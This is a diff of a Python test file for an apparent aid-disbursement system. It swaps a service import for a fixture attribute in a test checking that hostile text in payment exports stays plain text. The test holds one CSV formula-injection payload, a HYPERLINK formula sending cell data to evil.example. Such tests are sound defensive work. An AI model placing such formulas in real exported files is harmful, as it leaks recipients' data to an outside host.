@@ -7,7 +7,6 @@ from datetime import date
 from tests.notices.sim import add_household
 from yimen.domain.model import AidRecord
 from yimen.services.checking.screening import screen, write_csv
-from yimen.services.funds.disbursement import DisbursementService
 from yimen.services.funds.slips import create_slips
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击核对")'
@@ -44,7 +43,7 @@ def test_payment_file_carries_hostile_text_as_text(seeded):
             start=date(2026, 11, 25),
         )
     auth = seeded.auth
-    service = DisbursementService(seeded)
+    service = seeded.disbursement
     service.act(auth.staff_actor("centre"), "review", [slip.id])
     service.act(auth.staff_actor("finance"), "approve", [slip.id])
     payment_file = service.export_batch(auth.staff_actor("finance")).payment_file
